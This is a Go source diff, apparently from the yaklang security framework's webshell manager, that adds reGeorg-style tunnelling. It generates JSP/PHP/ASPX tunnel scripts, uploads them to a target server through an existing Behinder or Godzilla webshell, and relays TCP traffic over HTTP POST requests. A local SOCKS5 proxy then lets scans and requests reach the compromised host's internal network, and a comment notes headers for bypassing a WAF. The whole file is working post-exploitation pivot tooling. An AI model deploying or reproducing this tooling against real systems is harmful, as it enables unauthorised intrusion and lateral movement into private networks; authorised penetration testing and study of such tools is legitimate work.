@@ -0,0 +1,511 @@
+package wsm
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"net"
+	"os"
+	"strings"
+	"sync"
+	"time"
+
+	"github.com/yaklang/yaklang/common/log"
+	"github.com/yaklang/yaklang/common/s5"
+	"github.com/yaklang/yaklang/common/utils"
+	"github.com/yaklang/yaklang/common/utils/lowhttp"
+	"github.com/yaklang/yaklang/common/utils/lowhttp/poc"
+	"github.com/yaklang/yaklang/common/wsm/payloads"
+	"github.com/yaklang/yaklang/common/yakgrpc/ypb"
+)
+
+// 隧道协议的命令，通过 X-Tunnel-Cmd 头传递，数据放在 body 中
+const (
+	tunnelCmdPing       = "PING"
+	tunnelCmdConnect    = "CONNECT"
+	tunnelCmdRead       = "READ"
+	tunnelCmdForward    = "FORWARD"
+	tunnelCmdDisconnect = "DISCONNECT"
+)
+
+// 无数据时 READ 轮询的最大间隔
+const tunnelMaxPollInterval = 2 * time.Second
+
+// GenerateTunnelScript 生成部署在目标服务器上的隧道脚本，支持 JSP / PHP / ASPX，
+// key 用于校验隧道请求，避免隧道被他人利用
+func GenerateTunnelScript(script, key string) (string, error) {
+	if key == "" {
+		return "", utils.Error("tunnel key is empty")
+	}
+	var ext string
+	switch strings.ToUpper(script) {
+	case ypb.ShellScript_JSP.String(), ypb.ShellScript_JSPX.String():
+		ext = "jsp"
+	case ypb.ShellScript_PHP.String():
+		ext = "php"
+	case ypb.ShellScript_ASPX.String():
+		ext = "aspx"
+	default:
+		return "", utils.Errorf("unsupported tunnel script %s", script)
+	}
+	raw, err := payloads.TunnelPayloads.ReadFile(fmt.Sprintf("tunnel/tunnel.%s", ext))
+	if err != nil {
+		return "", err
+	}
+	return strings.ReplaceAll(string(raw), "{{key}}", key), nil
+}
+
+// DeployTunnel 通过已经连接的 webshell 把隧道脚本上传到 remotePath，
+// 脚本类型与 webshell 相同，部署后使用 NewWebShellTunnel 连接隧道
+func DeployTunnel(manager BaseShellManager, remotePath, key string) error {
+	switch shell := manager.(type) {
+	case *Behinder:
+		content, err := GenerateTunnelScript(shell.ShellScript, key)
+		if err != nil {
+			return err
+		}
+		res, err := shell.uploadFile(remotePath, []byte(content))
+		if err != nil {
+			return utils.Errorf("upload tunnel script failed: %v", err)
+		}
+		if _, err := shell.processBase64JSON(res); err != nil {
+			return utils.Errorf("upload tunnel script failed: %v", err)
+		}
+		return nil
+	case *Godzilla:
+		content, err := GenerateTunnelScript(shell.ShellScript, key)
+		if err != nil {
+			return err
+		}
+		if _, err := shell.uploadFile(remotePath, []byte(content)); err != nil {
+			return utils.Errorf("upload tunnel script failed: %v", err)
+		}
+		return nil
+	default:
+		return utils.Errorf("deploy tunnel with %T is not supported", manager)
+	}
+}
+
+type TunnelOption func(*WebShellTunnel)
+
+func WithTunnelProxy(proxy string) TunnelOption {
+	return func(t *WebShellTunnel) {
+		t.Proxy = proxy
+	}
+}
+
+// WithTunnelHeaders 隧道请求额外的 header，例如绕过 WAF 需要的 Cookie
+func WithTunnelHeaders(headers map[string]string) TunnelOption {
+	return func(t *WebShellTunnel) {
+		for k, v := range headers {
+			t.Headers[k] = v
+		}
+	}
+}
+
+// WithTunnelTimeout 单个隧道请求的超时时间（秒）
+func WithTunnelTimeout(seconds float64) TunnelOption {
+	return func(t *WebShellTunnel) {
+		t.Timeout = time.Duration(seconds * float64(time.Second))
+	}
+}
+
+// WithTunnelPollInterval 没有数据时轮询 READ 的最小间隔（秒），之后逐渐退避到 2s
+func WithTunnelPollInterval(seconds float64) TunnelOption {
+	return func(t *WebShellTunnel) {
+		t.PollInterval = time.Duration(seconds * float64(time.Second))
+	}
+}
+
+func WithTunnelContext(ctx context.Context) TunnelOption {
+	return func(t *WebShellTunnel) {
+		t.ctx = ctx
+	}
+}
+
+// WebShellTunnel 通过部署在目标服务器上的隧道脚本（reGeorg 风格）转发 TCP 连接，
+// 每次读写都是一个 HTTP 请求，服务端保存真实的 socket
+type WebShellTunnel struct {
+	Url          string
+	Key          string
+	Proxy        string
+	Headers      map[string]string
+	Timeout      time.Duration
+	PollInterval time.Duration
+
+	ctx context.Context
+}
+
+func NewWebShellTunnel(url, key string, opts ...TunnelOption) *WebShellTunnel {
+	t := &WebShellTunnel{
+		Url:          url,
+		Key:          key,
+		Headers:      make(map[string]string),
+		Timeout:      15 * time.Second,
+		PollInterval: 50 * time.Millisecond,
+		ctx:          context.Background(),
+	}
+	for _, opt := range opts {
+		opt(t)
+	}
+	return t
+}
+
+func (t *WebShellTunnel) String() string {
+	return fmt.Sprintf("Tunnel: %s, Proxy: %s", t.Url, t.Proxy)
+}
+
+func (t *WebShellTunnel) request(ctx context.Context, cmd, id, target string, data []byte) ([]byte, error) {
+	headers := make(map[string]string, len(t.Headers)+4)
+	for k, v := range t.Headers {
+		headers[k] = v
+	}
+	headers["Content-Type"] = "application/octet-stream"
+	headers["X-Tunnel-Key"] = t.Key
+	headers["X-Tunnel-Cmd"] = cmd
+	if id != "" {
+		headers["X-Tunnel-Id"] = id
+	}
+	if target != "" {
+		headers["X-Tunnel-Target"] = target
+	}
+	rsp, _, err := poc.DoPOST(
+		t.Url,
+		poc.WithProxy(t.Proxy),
+		poc.WithAppendHeaders(headers),
+		poc.WithReplaceHttpPacketBody(data, false),
+		poc.WithTimeout(t.Timeout.Seconds()),
+		poc.WithContext(ctx),
+		poc.WithConnPool(true),
+		poc.WithSave(false),
+	)
+	if err != nil {
+		return nil, utils.Errorf("tunnel %s request error: %v", cmd, err)
+	}
+	switch lowhttp.GetHTTPPacketHeader(rsp.RawPacket, "X-Tunnel-Status") {
+	case "OK":
+		return lowhttp.GetHTTPPacketBody(rsp.RawPacket), nil
+	case "FAIL":
+		return nil, utils.Errorf("tunnel %s failed: %s", cmd, lowhttp.GetHTTPPacketHeader(rsp.RawPacket, "X-Tunnel-Error"))
+	default:
+		return nil, utils.Errorf("tunnel %s failed: invalid response (status code %d), check tunnel url and key",
+			cmd, lowhttp.GetStatusCodeFromResponse(rsp.RawPacket))
+	}
+}
+
+// Ping 检查隧道脚本是否可用
+func (t *WebShellTunnel) Ping() (bool, error) {
+	if _, err := t.request(t.ctx, tunnelCmdPing, "", "", nil); err != nil {
+		return false, err
+	}
+	return true, nil
+}
+
+// Dial 通过隧道连接目标服务器能访问到的 addr(host:port)
+func (t *WebShellTunnel) Dial(addr string) (net.Conn, error) {
+	ctx, cancel := context.WithTimeout(t.ctx, t.Timeout)
+	defer cancel()
+	return t.DialContext(ctx, addr)
+}
+
+// DialContext ctx 只用于建立连接，连接的生命周期由隧道的 context 控制
+func (t *WebShellTunnel) DialContext(ctx context.Context, addr string) (net.Conn, error) {
+	host, port, err := utils.ParseStringToHostPort(addr)
+	if err != nil {
+		return nil, utils.Errorf("invalid tunnel target %s: %v", addr, err)
+	}
+	target := utils.HostPort(host, port)
+	id := utils.RandStringBytes(16)
+	if _, err := t.request(ctx, tunnelCmdConnect, id, target, nil); err != nil {
+		return nil, err
+	}
+
+	connCtx, cancel := context.WithCancel(t.ctx)
+	conn := &tunnelConn{
+		tunnel:       t,
+		id:           id,
+		ctx:          connCtx,
+		cancel:       cancel,
+		data:         make(chan []byte),
+		readDeadline: newTunnelDeadline(),
+		local:        &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)},
+		remote:       &net.TCPAddr{IP: net.ParseIP(host), Port: port},
+	}
+	go conn.poll()
+	return conn, nil
+}
+
+// ServeSocks5 在 addr 上启动 socks5 代理，所有连接都通过隧道转发，阻塞直到隧道的 context 结束
+func (t *WebShellTunnel) ServeSocks5(addr string) error {
+	lis, err := net.Listen("tcp", addr)
+	if err != nil {
+		return err
+	}
+	return t.serveSocks5(lis)
+}
+
+func (t *WebShellTunnel) serveSocks5(lis net.Listener) error {
+	defer lis.Close()
+	base, err := s5.NewConfig()
+	if err != nil {
+		return err
+	}
+	base.HijackMode = false
+
+	ctx, cancel := context.WithCancel(t.ctx)
+	defer cancel()
+	go func() {
+		<-ctx.Done()
+		lis.Close()
+	}()
+	log.Infof("start socks5 server on %s through tunnel %s", lis.Addr().String(), t.Url)
+	for {
+		conn, err := lis.Accept()
+		if err != nil {
+			if t.ctx.Err() != nil {
+				return nil
+			}
+			return err
+		}
+		go func() {
+			config := *base
+			var dst net.Conn
+			config.Dialer = func(timeout time.Duration, addr string) (net.Conn, error) {
+				ctx, cancel := context.WithTimeout(t.ctx, timeout)
+				defer cancel()
+				c, err := t.DialContext(ctx, addr)
+				dst = c
+				return c, err
+			}
+			err := config.ServeConn(conn)
+			if dst != nil {
+				dst.Close()
+			}
+			if err != nil && err != io.EOF {
+				log.Debugf("serve socks5 conn through tunnel failed: %v", err)
+			}
+		}()
+	}
+}
+
+// tunnelDeadline 在到达 deadline 时关闭 done，用于打断阻塞中的 Read
+type tunnelDeadline struct {
+	mu    sync.Mutex
+	timer *time.Timer
+	done  chan struct{}
+}
+
+func newTunnelDeadline() *tunnelDeadline {
+	return &tunnelDeadline{done: make(chan struct{})}
+}
+
+func (d *tunnelDeadline) set(t time.Time) {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+
+	// 定时器已经触发时等待它关闭 done，避免之后重复关闭
+	if d.timer != nil && !d.timer.Stop() {
+		<-d.done
+	}
+	d.timer = nil
+
+	closed := isTunnelDeadlineClosed(d.done)
+	if t.IsZero() {
+		if closed {
+			d.done = make(chan struct{})
+		}
+		return
+	}
+	if dur := time.Until(t); dur > 0 {
+		if closed {
+			d.done = make(chan struct{})
+		}
+		done := d.done
+		d.timer = time.AfterFunc(dur, func() {
+			close(done)
+		})
+		return
+	}
+	if !closed {
+		close(d.done)
+	}
+}
+
+func (d *tunnelDeadline) wait() chan struct{} {
+	d.mu.Lock()
+	defer d.mu.Unlock()
+	return d.done
+}
+
+func isTunnelDeadlineClosed(c chan struct{}) bool {
+	select {
+	case <-c:
+		return true
+	default:
+		return false
+	}
+}
+
+// tunnelConn 隧道中的一条 TCP 连接，写入通过 FORWARD 发送，后台轮询 READ 获取数据
+type tunnelConn struct {
+	tunnel *WebShellTunnel
+	id     string
+
+	ctx    context.Context
+	cancel context.CancelFunc
+	// 轮询到的数据，轮询结束时关闭
+	data    chan []byte
+	readMu  sync.Mutex
+	pending []byte
+
+	readDeadline    *tunnelDeadline
+	writeDeadlineMu sync.Mutex
+	writeDeadline   time.Time
+
+	writeMu   sync.Mutex
+	closeOnce sync.Once
+
+	local  net.Addr
+	remote net.Addr
+}
+
+func (c *tunnelConn) poll() {
+	defer close(c.data)
+	interval := c.tunnel.PollInterval
+	for {
+		select {
+		case <-c.ctx.Done():
+			return
+		default:
+		}
+		data, err := c.tunnel.request(c.ctx, tunnelCmdRead, c.id, "", nil)
+		if err != nil {
+			if c.ctx.Err() == nil {
+				log.Debugf("tunnel connection %s closed: %v", c.remote, err)
+			}
+			return
+		}
+		if len(data) > 0 {
+			select {
+			case <-c.ctx.Done():
+				return
+			case c.data <- data:
+			}
+			interval = c.tunnel.PollInterval
+			continue
+		}
+		select {
+		case <-c.ctx.Done():
+			return
+		case <-time.After(interval):
+		}
+		if interval *= 2; interval > tunnelMaxPollInterval {
+			interval = tunnelMaxPollInterval
+		}
+	}
+}
+
+func (c *tunnelConn) Read(b []byte) (int, error) {
+	c.readMu.Lock()
+	defer c.readMu.Unlock()
+	if len(c.pending) == 0 {
+		if c.ctx.Err() != nil {
+			return 0, io.ErrClosedPipe
+		}
+		if isTunnelDeadlineClosed(c.readDeadline.wait()) {
+			return 0, os.ErrDeadlineExceeded
+		}
+		select {
+		case data, ok := <-c.data:
+			if !ok {
+				if c.ctx.Err() != nil {
+					return 0, io.ErrClosedPipe
+				}
+				return 0, io.EOF
+			}
+			c.pending = data
+		case <-c.ctx.Done():
+			return 0, io.ErrClosedPipe
+		case <-c.readDeadline.wait():
+			return 0, os.ErrDeadlineExceeded
+		}
+	}
+	n := copy(b, c.pending)
+	c.pending = c.pending[n:]
+	return n, nil
+}
+
+func (c *tunnelConn) Write(b []byte) (int, error) {
+	c.writeMu.Lock()
+	defer c.writeMu.Unlock()
+	if c.ctx.Err() != nil {
+		return 0, io.ErrClosedPipe
+	}
+	ctx := c.ctx
+	c.writeDeadlineMu.Lock()
+	deadline := c.writeDeadline
+	c.writeDeadlineMu.Unlock()
+	if !deadline.IsZero() {
+		var cancel context.CancelFunc
+		ctx, cancel = context.WithDeadline(c.ctx, deadline)
+		defer cancel()
+	}
+	if _, err := c.tunnel.request(ctx, tunnelCmdForward, c.id, "", b); err != nil {
+		if ctx.Err() == context.DeadlineExceeded {
+			return 0, os.ErrDeadlineExceeded
+		}
+		return 0, err
+	}
+	return len(b), nil
+}
+
+func (c *tunnelConn) Close() error {
+	c.closeOnce.Do(func() {
+		c.cancel()
+		ctx, cancel := context.WithTimeout(c.tunnel.ctx, c.tunnel.Timeout)
+		defer cancel()
+		if _, err := c.tunnel.request(ctx, tunnelCmdDisconnect, c.id, "", nil); err != nil {
+			log.Debugf("disconnect tunnel connection %s failed: %v", c.remote, err)
+		}
+	})
+	return nil
+}
+
+func (c *tunnelConn) LocalAddr() net.Addr {
+	return c.local
+}
+
+func (c *tunnelConn) RemoteAddr() net.Addr {
+	return c.remote
+}
+
+func (c *tunnelConn) SetDeadline(t time.Time) error {
+	c.SetReadDeadline(t)
+	return c.SetWriteDeadline(t)
+}
+
+// SetReadDeadline 到达 deadline 时阻塞的 Read 返回超时错误，轮询到的数据会保留到下一次 Read
+func (c *tunnelConn) SetReadDeadline(t time.Time) error {
+	c.readDeadline.set(t)
+	return nil
+}
+
+// SetWriteDeadline 写入是一次 FORWARD 请求，deadline 作为该请求的超时
+func (c *tunnelConn) SetWriteDeadline(t time.Time) error {
+	c.writeDeadlineMu.Lock()
+	defer c.writeDeadlineMu.Unlock()
+	c.writeDeadline = t
+	return nil
+}
+
+var _ net.Conn = (*tunnelConn)(nil)
+
+// ServeTunnelSocks5 连接 url 上的隧道脚本并在本地 addr 启动 socks5 代理，
+// 之后可以通过 socks5://addr 让 HTTP 请求、端口扫描等经过 webshell 访问内网
+func ServeTunnelSocks5(url, key, addr string, opts ...TunnelOption) error {
+	t := NewWebShellTunnel(url, key, opts...)
+	if _, err := t.Ping(); err != nil {
+		return err
+	}
+	return t.ServeSocks5(addr)
+}